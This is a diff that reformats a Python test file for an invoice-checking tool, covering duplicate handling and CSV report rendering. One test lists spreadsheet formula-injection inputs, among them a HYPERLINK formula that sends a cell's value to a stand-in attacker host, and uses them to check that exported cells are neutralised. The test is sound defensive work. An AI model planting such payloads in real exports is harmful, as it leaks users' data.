@@ -25,8 +25,12 @@ def _report(**kw: object) -> Report:
 def _busy_report() -> Report:
     """Dozens of findings: 30 ineligible laptops on invoices with bad NIPs and no protocol."""
     docs = [
-        invoice(file=f"fv{n}.pdf", number=f"FV/{n}/2024", seller=Party("X Sp. z o.o.", "1234567890"),
-                items=tuple(line(f"Laptop nr {k}", "1000.00", k) for k in range(1, 4)))
+        invoice(
+            file=f"fv{n}.pdf",
+            number=f"FV/{n}/2024",
+            seller=Party("X Sp. z o.o.", "1234567890"),
+            items=tuple(line(f"Laptop nr {k}", "1000.00", k) for k in range(1, 4)),
+        )
         for n in range(1, 11)
     ]
     return run_checks(docs, ctx(), classify)
@@ -178,8 +182,9 @@ def test_empty_report_renders() -> None:
 
 
 def test_duplicates_are_marked_as_left_out() -> None:
-    report = run_checks([invoice(), invoice(file="kopia.pdf")], ctx(), classify,
-                        file_hashes={"fv1.pdf": "h", "kopia.pdf": "h"})
+    report = run_checks(
+        [invoice(), invoice(file="kopia.pdf")], ctx(), classify, file_hashes={"fv1.pdf": "h", "kopia.pdf": "h"}
+    )
     text = text_report(report)
     assert "kopia.pdf (duplikat – pominięty w kontroli)" in text
     assert "fv1.pdf (duplikat" not in text
@@ -204,8 +209,14 @@ def test_summary_worst_case_still_fits() -> None:
 
 @pytest.mark.parametrize(
     "name",
-    ['=HYPERLINK("http://evil.example/?"&A1;"kliknij") firewall', "+48 123 firewall", "-2+3 kabel", "@SUM(1+1)",
-     "\tTAB firewall", "\rCR firewall"],
+    [
+        '=HYPERLINK("http://evil.example/?"&A1;"kliknij") firewall',
+        "+48 123 firewall",
+        "-2+3 kabel",
+        "@SUM(1+1)",
+        "\tTAB firewall",
+        "\rCR firewall",
+    ],
     ids=["equals", "plus", "minus", "at", "tab", "cr"],
 )
 def test_csv_cells_cannot_become_spreadsheet_formulas(name: str) -> None:
